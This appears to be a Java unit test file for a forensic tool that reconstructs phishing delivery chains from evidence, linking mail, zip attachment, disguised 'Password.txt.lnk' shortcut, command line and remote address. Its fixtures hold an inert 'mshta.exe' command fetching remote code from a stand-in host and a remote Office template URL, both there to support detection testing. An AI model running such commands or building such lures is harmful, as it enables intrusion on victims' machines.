package io.ashiato.casefile.artefacts;

import static org.assertj.core.api.Assertions.assertThat;

import io.ashiato.casefile.Made;
import io.ashiato.casefile.findings.FindingBuilder;
import io.ashiato.intel.AttackKnowledge;
import io.ashiato.model.Artefact;
import io.ashiato.model.Artefact.Role;
import io.ashiato.model.DeliveryChain;
import io.ashiato.model.DeliveryChain.Joint;
import io.ashiato.model.DeliveryChain.Kind;
import io.ashiato.model.Detection;
import io.ashiato.model.EvidenceKind;
import io.ashiato.model.Facts;
import io.ashiato.model.Finding;
import io.ashiato.model.Level;
import java.util.List;
import org.junit.jupiter.api.Test;

class DeliveryChainsTest {
    private final ArtefactsMade made = new ArtefactsMade();

    @Test
    void followsAMailDownToTheAddress() {
        Artefact mail = made.add(EvidenceKind.MAIL, "lure.eml", ArtefactsMade.text("subject", "Bonus plan"));
        Artefact zip = made.inside(mail, Role.ATTACHMENT, EvidenceKind.ZIP, "plan.zip", Facts.NONE);
        shortcutIn(zip);

        assertThat(chains()).singleElement().satisfies(chain -> {
            assertThat(chain.id()).isEqualTo("C-01");
            assertThat(chain.steps())
                    .extracting(DeliveryChain.Step::kind)
                    .containsExactly(Kind.MAIL, Kind.ARCHIVE, Kind.SHORTCUT, Kind.COMMAND, Kind.ADDRESS);
            assertThat(chain.steps())
                    .extracting(DeliveryChain.Step::joint)
                    .containsExactly(Joint.START, Joint.CONTAINED, Joint.CONTAINED, Joint.WOULD_RUN, Joint.NAMES);
            assertThat(chain.steps().getFirst().label()).isEqualTo("Bonus plan");
        });
    }

    @Test
    void beginsWithTheAddressThatTheMarkOfTheWebNames() {
        made.add(
                EvidenceKind.ZONE_IDENTIFIER,
                "x/plan.docx:Zone.Identifier",
                ArtefactsMade.text("host_url", "https://files.example/plan.docx"));
        made.add(
                EvidenceKind.OOXML,
                "x/plan.docx",
                ArtefactsMade.target("attachedTemplate", "http://update-check.example/t.dotm"));

        assertThat(chains())
                .singleElement()
                .satisfies(chain -> assertThat(chain.steps())
                        .extracting(DeliveryChain.Step::kind)
                        .containsExactly(Kind.ADDRESS, Kind.DOCUMENT, Kind.ADDRESS));
    }

    @Test
    void anArchiveThatWasDownloadedBelongsToItsChain() {
        made.add(
                EvidenceKind.ZONE_IDENTIFIER,
                "Downloads/plan.zip:Zone.Identifier",
                ArtefactsMade.text("host_url", "https://files.example/plan.zip"));
        shortcutIn(made.add(EvidenceKind.ZIP, "Downloads/plan.zip", Facts.NONE));

        assertThat(chains())
                .singleElement()
                .satisfies(chain -> assertThat(chain.steps())
                        .extracting(DeliveryChain.Step::kind)
                        .containsExactly(Kind.ADDRESS, Kind.ARCHIVE, Kind.SHORTCUT, Kind.COMMAND, Kind.ADDRESS));
    }

    @Test
    void anArchiveOfEvidenceDoesNot() {
        shortcutIn(made.add(EvidenceKind.ZIP, "collection.zip", Facts.NONE));

        assertThat(chains())
                .singleElement()
                .satisfies(chain -> assertThat(chain.steps().getFirst().kind()).isEqualTo(Kind.SHORTCUT));
    }

    @Test
    void everydayMailsDocumentsAndDownloadsAreNoChains() {
        Artefact mail = made.add(
                EvidenceKind.MAIL,
                "news.eml",
                ArtefactsMade.texts("urls", "https://a.example/1", "https://a.example/2"));
        made.inside(mail, Role.ATTACHMENT, EvidenceKind.TEXT, "notes.txt", Facts.NONE);
        made.add(EvidenceKind.OOXML, "report.docx", ArtefactsMade.target("hyperlink", "https://intranet.example/"));
        made.add(
                EvidenceKind.ZONE_IDENTIFIER,
                "paper.pdf:Zone.Identifier",
                ArtefactsMade.text("host_url", "https://papers.example/1.pdf"));
        made.add(EvidenceKind.PDF, "paper.pdf", ArtefactsMade.texts("uris", "https://papers.example/"));
        Artefact folder = made.add(EvidenceKind.SHORTCUT, "Documents.lnk", Facts.NONE);
        made.inside(
                folder,
                Role.COMMAND,
                EvidenceKind.COMMAND_LINE,
                "command",
                ArtefactsMade.text("command_line", "C:\\Users\\sato\\Documents"));

        assertThat(chains()).isEmpty();
    }

    @Test
    void aMailWhoseLinkAFindingNamesIsOne() {
        made.add(EvidenceKind.MAIL, "lure.eml", ArtefactsMade.texts("urls", "https://login.update-check.example/x"));

        List<Finding> findings = finding("CommandLine", "chrome.exe https://login.update-check.example/x");
        assertThat(DeliveryChains.of(made.all(), findings)).singleElement().satisfies(chain -> {
            assertThat(chain.steps())
                    .extracting(DeliveryChain.Step::kind)
                    .containsExactly(Kind.MAIL, Kind.ADDRESS, Kind.PROCESS);
            assertThat(chain.steps().getLast().source()).isPresent();
        });
    }

    @Test
    void joinsADocumentAndTheShortcutThatOfficeWrote() {
        Artefact document = made.add(EvidenceKind.OLE2, "plan.doc", Facts.NONE);
        made.inside(document, Role.MACRO, EvidenceKind.SCRIPT, "Module1.bas", Facts.NONE);
        Artefact shortcut = made.add(EvidenceKind.SHORTCUT, "Password.txt.lnk", Facts.NONE);
        command(shortcut);

        List<Finding> findings = finding("11", new String[] {
            "TargetFilename",
            "C:\\Users\\sato\\Desktop\\Password.txt.lnk",
            "Image",
            "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"
        });
        assertThat(DeliveryChains.of(made.all(), findings))
                .singleElement()
                .satisfies(chain -> assertThat(chain.steps())
                        .extracting(DeliveryChain.Step::kind)
                        .as("a file written is no process")
                        .startsWith(Kind.DOCUMENT, Kind.MACRO, Kind.RECORD, Kind.SHORTCUT, Kind.COMMAND, Kind.ADDRESS));
    }

    @Test
    void aThousandOrdinaryDocumentsDoNotCrowdOutTheLure() {
        for (int i = 0; i < 1_000; i++) {
            made.add(EvidenceKind.OOXML, "documents/" + i + ".docx", Facts.NONE);
        }
        command(made.add(EvidenceKind.SHORTCUT, "Password.txt.lnk", Facts.NONE));

        assertThat(chains()).hasSize(1);
    }

    @Test
    void deepAndWideEvidenceStaysBounded() {
        Artefact parent = made.add(EvidenceKind.MAIL, "m.eml", Facts.NONE);
        for (int i = 0; i < 100; i++) {
            parent = made.inside(parent, Role.ATTACHMENT, EvidenceKind.MAIL, "m.eml", Facts.NONE);
            for (int j = 0; j < 5; j++) {
                made.inside(parent, Role.ATTACHMENT, EvidenceKind.SCRIPT, j + ".js", Facts.NONE);
            }
        }

        assertThat(chains())
                .hasSizeBetween(1, 40)
                .allSatisfy(chain -> assertThat(chain.steps().size()).isLessThan(60));
    }

    private void shortcutIn(Artefact parent) {
        command(made.inside(parent, Role.MEMBER, EvidenceKind.SHORTCUT, "Password.txt.lnk", Facts.NONE));
    }

    private void command(Artefact shortcut) {
        Facts facts = Facts.builder()
                .text("command_line", "mshta.exe http://update-check.example/edit")
                .texts("urls", List.of("http://update-check.example/edit"))
                .build();
        made.inside(shortcut, Role.COMMAND, EvidenceKind.COMMAND_LINE, "command", facts);
    }

    private List<DeliveryChain> chains() {
        return DeliveryChains.of(made.all(), List.of());
    }

    private static List<Finding> finding(String... data) {
        return finding("1", data);
    }

    /// @param eventId of Sysmon
    private static List<Finding> finding(String eventId, String[] data) {
        var builder = new FindingBuilder(AttackKnowledge.builtIn());
        builder.accept(new Detection(
                Made.rule("r", Level.HIGH),
                Made.event("2019-10-09T08:00:00Z", "FIN-WS07", "Microsoft-Windows-Sysmon/Operational", eventId, data)));
        return builder.finish();
    }
}
